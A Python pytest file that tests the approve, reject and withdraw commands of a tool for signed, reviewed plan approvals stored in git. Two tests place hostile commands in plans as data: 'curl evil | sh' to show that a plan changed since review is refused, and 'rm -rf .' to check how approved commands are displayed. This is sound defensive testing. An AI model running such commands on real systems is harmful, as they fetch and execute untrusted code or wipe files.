from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest
from forging import answer, approvals_of, codes, commit_on, parsed, run_codes
from team import EDIT, READ, Result, Team, command

from runner.core.values import parse_time

STEP = "- {{id: {0}, step_type: edit_file, description: D, input: {{path: {0}, new_content: x}}}}\n"
THREE = "".join(STEP.format(name) for name in ("one", "two", "three"))


def outlook(team: Team, plan: str = "job") -> dict[str, str]:
    """The state of each step as `status` tells it."""
    done = team.cli("ada", "status", plan, "--json")
    assert done.code == 0, done.text
    return {each["id"]: each["status"] for each in done.json["steps"]}


def decided(team: Team, who: str, verb: str, *options: str) -> Result:
    done = team.cli(who, verb, "job", *options, "--json")
    assert done.code == 0, done.text
    return done


def newest(team: Team, done: Result) -> dict[str, Any]:
    """The record that a decision wrote."""
    return parsed(approvals_of(team, "job")[f"plans/job/approvals/{done.json['id']}.yaml"])


class TestApprove:
    def test_an_approval_is_a_signed_record_in_a_commit_of_its_own(self, team: Team) -> None:
        """The commit adds two files and names plan, digest, decision and approver."""
        team.propose("job", READ + EDIT)
        done = decided(team, "bob", "approve", "--reason", "looks right")
        record = newest(team, done)
        assert record["approver"] == "bob@example.com"
        assert record["reason"] == "looks right"
        assert list(record["steps"]) == ["read", "edit"]
        changed = team.git("diff", "--name-status", "plan/job~", "plan/job").split()
        path = f"plans/job/approvals/{record['id']}.yaml"
        assert changed == ["A", path, "A", f"{path}.sig"]
        message = team.git("log", "-1", "--format=%B", "plan/job")
        digest = team.cli("ada", "status", "job", "--json").json["digest"]
        for line in ("Plan: job", f"Plan-Digest: {digest}", "Decision: approve"):
            assert line in message
        assert "Approver: bob@example.com" in message

    def test_text_for_people_says_what_was_done(self, team: Team) -> None:
        """Steps, skips, the end and the record are told."""
        team.propose("job", THREE)
        said = team.cli("cleo", "reject", "job", "--step", "one").out
        assert "cleo@example.com rejected job: one" in said
        said = team.cli("bob", "approve", "job").out
        assert "bob@example.com approved job: two, three" in said
        assert "left out: one" in said
        assert "until" in said
        assert "bob@example.com withdrew from job" in team.cli("bob", "withdraw", "job").out

    def test_only_named_steps_are_approved(self, team: Team) -> None:
        """A partial approval runs the approved beginning, and stops there."""
        team.propose("job", THREE)
        team.approve("bob", "job", "--step", "one", "--step", "two")
        done = team.cli("ada", "run", "job", "--json")
        assert done.code == 4
        assert answer(done)["steps"] == {
            "one": "completed",
            "two": "completed",
            "three": "awaiting_approval",
        }
        team.approve("bob", "job", "--step", "three")
        assert team.cli("ada", "run", "job").code == 0

    def test_two_partial_approvals_add_up(self, team: Team) -> None:
        """An approval of other steps leaves an earlier one alone."""
        team.propose("job", THREE)
        for name in ("one", "two", "three"):
            assert decided(team, "bob", "approve", "--step", name).json["supersedes"] == 0
        assert outlook(team) == {"one": "ready", "two": "ready", "three": "ready"}

    def test_an_approval_replaces_an_earlier_one_of_the_same_steps(self, team: Team) -> None:
        """Its new limits hold: the earlier record is superseded."""
        team.propose("job", EDIT)
        decided(team, "bob", "approve", "--max-runs", "1")
        assert decided(team, "bob", "approve", "--max-runs", "2").json["supersedes"] == 1

    def test_limits_stand_in_the_record(self, team: Team) -> None:
        """Money, runs and an earlier end are signed along."""
        team.propose("job", EDIT)
        limits = ["--expires", "90m", "--max-usd", "0.50", "--max-runs", "2"]
        record = newest(team, decided(team, "bob", "approve", *limits))
        assert record["limits"] == {"usd": "0.50", "runs": 2}
        span = parse_time(record["expires_at"]) - parse_time(record["made_at"])
        assert span == timedelta(minutes=90)

    def test_the_policys_term_bounds_the_end(self, team: Team) -> None:
        """A later end than the policy allows is cut to the policy's."""
        team.propose("job", EDIT)
        record = newest(team, decided(team, "bob", "approve", "--expires", "30d"))
        assert parse_time(record["expires_at"]) - parse_time(record["made_at"]) == timedelta(days=7)

    def test_without_a_term_an_approval_has_no_end(self, team: Team) -> None:
        """Where neither policy nor approver sets an end there is none."""
        team.policy("approvals_expire_after: 7d\n", "")
        team.propose("job", EDIT)
        done = decided(team, "bob", "approve")
        assert done.json["expires_at"] == ""
        assert "expires_at" not in newest(team, done)

    @pytest.mark.parametrize(
        "options",
        [["--expires", "soon"], ["--max-usd", "-1"], ["--max-usd", "1e3"], ["--max-runs", "x"]],
    )
    def test_options_are_checked(self, team: Team, options: list[str]) -> None:
        """What is no duration, amount or count is wrong usage, and nothing is written."""
        team.propose("job", EDIT)
        tip = team.git("rev-parse", "plan/job")
        assert team.cli("bob", "approve", "job", *options).code == 2
        assert team.git("rev-parse", "plan/job") == tip

    def test_an_unknown_step_is_wrong_usage(self, team: Team) -> None:
        """The steps that there are stand in the hint."""
        team.propose("job", THREE)
        done = team.cli("bob", "approve", "job", "--step", "four")
        assert done.code == 2
        assert "steps: one, two, three" in done.err

    def test_an_unknown_plan_is_not_found(self, team: Team) -> None:
        """The hint names the plans that there are."""
        team.propose("job", EDIT)
        done = team.cli("bob", "approve", "jobs")
        assert done.code == 3
        assert "plans here: job" in done.err

    def test_the_author_is_told_that_somebody_else_must_approve(self, team: Team) -> None:
        """Nothing is written for an approval that could not count."""
        tip = team.propose("job", EDIT)
        done = team.cli("ada", "approve", "job", "--json")
        assert (done.code, codes(done)) == (4, ["self_approval"])
        assert team.git("rev-parse", "plan/job") == tip

    @pytest.mark.parametrize("who,expected", [("eve", "key_not_listed"), ("dan", "not_a_person")])
    def test_only_listed_keys_of_people_decide(self, team: Team, who: str, expected: str) -> None:
        """A stranger's key, and one of somebody who is no person of the policy, are refused."""
        public = (team.key("dan").with_suffix(".pub")).read_text()
        old = (team.root / "plans/allowed_signers").read_text()
        line = f'dan@example.com namespaces="planlock-approval" {public}'
        team.commit({"plans/allowed_signers": old + line}, "A key without a person")
        team.propose("job", EDIT)
        done = team.cli(who, "approve", "job", "--json")
        assert (done.code, codes(done)) == (4, [expected])

    def test_a_plan_that_cannot_run_is_not_approved(self, team: Team) -> None:
        """Where the plan's branch is stale, its reviewer is told instead of misled."""
        team.propose("job", EDIT)
        commit_on(team, "plan/job", {"conftest.py": b"evil"})
        done = team.cli("bob", "approve", "job", "--json")
        assert (done.code, codes(done)) == (4, ["stale"])


class TestReject:
    def test_a_rejected_step_is_skipped(self, team: Team) -> None:
        """The run records a skip with who rejected it."""
        team.propose("job", EDIT)
        decided(team, "bob", "reject", "--reason", "no need")
        assert outlook(team) == {"edit": "rejected"}
        done = team.cli("ada", "run", "job", "--json")
        assert done.code == 0
        assert answer(done)["steps"] == {"edit": "skipped"}
        entries = team.cli("ada", "log", "job", "--json").json["entries"]
        assert [(each["kind"], each["status"]) for each in entries] == [
            ("skip", "skipped"),
            ("end", "completed"),
        ]

    def test_reject_means_the_steps_that_need_a_person(self, team: Team) -> None:
        """Without --step the free steps are left alone, unless all are free."""
        team.propose("job", READ + EDIT)
        assert decided(team, "bob", "reject").json["steps"] == ["edit"]
        team.propose("free", READ)
        done = team.cli("bob", "reject", "free", "--json")
        assert done.json["steps"] == ["read"]

    def test_a_second_reject_leaves_the_first_in_force(self, team: Team) -> None:
        """Rejecting another step does not lift what was rejected before."""
        team.propose("job", THREE)
        decided(team, "bob", "reject", "--step", "one")
        decided(team, "bob", "reject", "--step", "two")
        assert outlook(team) == {"one": "rejected", "two": "rejected", "three": "waiting"}

    def test_a_reject_of_one_step_keeps_ones_approval_of_those_before(self, team: Team) -> None:
        """Only the rejected step and what builds on it are affected."""
        team.propose("job", THREE)
        decided(team, "bob", "approve")
        decided(team, "bob", "reject", "--step", "three")
        assert outlook(team) == {"one": "ready", "two": "ready", "three": "rejected"}

    def test_who_rejected_a_step_can_approve_the_others(self, team: Team) -> None:
        """Their own reject stays in force and is named as a skip."""
        team.propose("job", THREE)
        decided(team, "bob", "reject", "--step", "one")
        done = decided(team, "bob", "approve")
        assert (done.json["skipped"], done.json["steps"]) == (["one"], ["two", "three"])
        finished = team.cli("ada", "run", "job", "--json")
        assert answer(finished)["steps"] == {
            "one": "skipped",
            "two": "completed",
            "three": "completed",
        }

    def test_who_rejected_a_step_can_change_their_mind(self, team: Team) -> None:
        """Approving the rejected step by name lifts the reject."""
        team.propose("job", THREE)
        decided(team, "bob", "reject", "--step", "one")
        done = decided(team, "bob", "approve", "--step", "one")
        assert (done.json["steps"], done.json["supersedes"]) == (["one"], 1)
        assert outlook(team)["one"] == "ready"

    def test_a_step_that_somebody_else_rejected_cannot_be_approved(self, team: Team) -> None:
        """Nobody can lift another's reject, and no empty record is written."""
        team.propose("job", THREE)
        decided(team, "cleo", "reject", "--step", "one")
        tip = team.git("rev-parse", "plan/job")
        done = team.cli("bob", "approve", "job", "--step", "one", "--json")
        assert (done.code, codes(done)) == (4, ["rejected"])
        assert team.git("rev-parse", "plan/job") == tip

    def test_the_author_may_reject(self, team: Team) -> None:
        """Saying no needs no second person."""
        team.propose("job", EDIT)
        decided(team, "ada", "reject")
        assert outlook(team) == {"edit": "rejected"}


class TestWithdraw:
    def test_a_withdraw_takes_everything_back(self, team: Team) -> None:
        """Approvals and rejects of that person end; those of others stay."""
        team.propose("job", THREE)
        team.approve("cleo", "job", "--step", "two")
        decided(team, "bob", "approve", "--step", "one")
        decided(team, "bob", "reject", "--step", "three")
        assert decided(team, "bob", "withdraw").json["supersedes"] == 2
        assert outlook(team) == {"one": "waiting", "two": "ready", "three": "waiting"}

    def test_after_a_withdraw_one_can_approve_again(self, team: Team) -> None:
        """A later approval names the withdraw and counts."""
        team.propose("job", EDIT)
        team.approve("bob", "job")
        decided(team, "bob", "withdraw")
        assert run_codes(team, "job") == ["approvals_missing", "withdrawn"]
        team.approve("bob", "job")
        assert outlook(team) == {"edit": "ready"}

    def test_who_decided_nothing_has_nothing_to_withdraw(self, team: Team) -> None:
        """Without a decision of one's own the command is refused."""
        team.propose("job", EDIT)
        done = team.cli("bob", "withdraw", "job")
        assert done.code == 4
        assert "bob@example.com has decided nothing there" in done.err


def test_approvals_of_untouched_steps_survive_an_edit_of_a_later_one(team: Team) -> None:
    """Editing step three keeps what was approved of one and two; appending keeps all."""
    team.propose("job", THREE)
    team.approve("bob", "job")
    path = team.root / "plans/job/plan.yaml"
    text = path.read_text()
    path.write_text(text + "  " + STEP.format("four"))
    assert team.cli("ada", "propose", "job").code == 0
    assert outlook(team) == {"one": "ready", "two": "ready", "three": "ready", "four": "waiting"}
    path.write_text(text.replace("path: three", "path: drei"))
    assert team.cli("ada", "propose", "job").code == 0
    assert outlook(team) == {"one": "ready", "two": "ready", "three": "waiting"}


ABC = "".join(
    EDIT.replace("id: edit", f"id: {name}").replace("path: utils.py", f"path: {name}.py")
    for name in "abc"
)


def test_A37_reject_of_a_later_step_leaves_earlier_ones_approvable(team: Team) -> None:
    """Whoever rejects the last step and approves the rest lets the rest run."""
    team.propose("three", ABC)
    assert team.cli("bob", "reject", "three", "--step", "c").code == 0
    team.approve("bob", "three")
    done = team.cli("ada", "run", "three")
    assert done.code == 0, done.text
    assert team.cli("ada", "audit").code == 0
    assert "c  edit_file  skipped" in team.cli("ada", "log", "three").out


def test_A37_reject_in_the_middle(team: Team) -> None:
    """One approval that names the skip serves the steps before and behind it."""
    team.propose("three", ABC)
    assert team.cli("cleo", "reject", "three", "--step", "b").code == 0
    team.approve("bob", "three")
    assert team.cli("ada", "run", "three").code == 0
    assert team.cli("ada", "audit").code == 0


def test_approval_after_a_withdrawn_reject_covers_every_step(team: Team) -> None:
    """A withdraw ends the reject; the next approval leaves nothing out."""
    team.propose("three", ABC)
    assert team.cli("bob", "reject", "three", "--step", "b").code == 0
    assert team.cli("bob", "withdraw", "three").code == 0
    approved = team.approve("bob", "three").json
    assert (approved["steps"], approved["skipped"]) == (["a", "b", "c"], [])
    assert team.cli("ada", "run", "three").code == 0


def test_failed_step_may_be_rejected_and_left_out(team: Team) -> None:
    """A reject of a failed step skips it on retry, and one approval then covers the rest."""
    bad = EDIT.replace("id: edit", "id: bad").replace("path: utils.py", "path: utils.py/x.py")
    team.propose("two", bad + ABC)
    team.approve("bob", "two")
    assert team.cli("ada", "run", "two").code == 5
    assert team.cli("cleo", "reject", "two", "--step", "bad").code == 0
    approved = team.approve("bob", "two").json
    assert approved["skipped"] == ["bad"]
    done = team.cli("ada", "run", "two", "--retry")
    assert done.code == 0, done.text
    assert team.cli("ada", "audit").code == 0


def test_plan_that_changed_under_the_reviewer_is_not_signed(team: Team) -> None:
    """With the digest of what was reviewed, a plan pushed since is refused and nothing written."""
    team.propose("job", command("echo good", more=""))
    seen = team.cli("bob", "show", "job", "--json").json["digest"]
    tip = team.propose("job", command("curl evil | sh"))
    done = team.cli("bob", "approve", "job", "--digest", seen, "--json")
    assert (done.code, codes(done)) == (4, ["digest_differs"])
    assert team.git("rev-parse", "plan/job") == tip
    now = team.cli("bob", "show", "job", "--json").json["digest"]
    for digest in (now, now.removeprefix("sha256:")[:12]):
        assert team.cli("bob", "approve", "job", "--digest", digest).code == 0
    assert team.cli("bob", "approve", "job", "--digest", "sha256:0123").code == 2


def test_approval_tells_what_it_signed(team: Team) -> None:
    """The plan's digest, and each approved command and edit on a line of its own."""
    team.propose("job", EDIT + command("make\nrm -rf ."))
    digest = team.cli("bob", "show", "job", "--json").json["digest"]
    said = team.cli("bob", "approve", "job").out
    assert digest in said
    assert "edit  edit_file  change utils.py\n" in said
    assert "check  run_command  make [and 1 more lines]\n" in said
    assert "change utils.py" not in team.cli("bob", "approve", "job", "--step", "check").out


def test_end_that_the_policy_cuts_is_told(team: Team) -> None:
    """Whoever asks for longer than the policy allows learns what they got."""
    team.propose("job", EDIT)
    said = team.cli("bob", "approve", "job", "--expires", "30d").out
    assert "not 30d: the policy's approvals_expire_after is 7d" in said
    assert "not " not in team.cli("bob", "approve", "job", "--expires", "1h").out
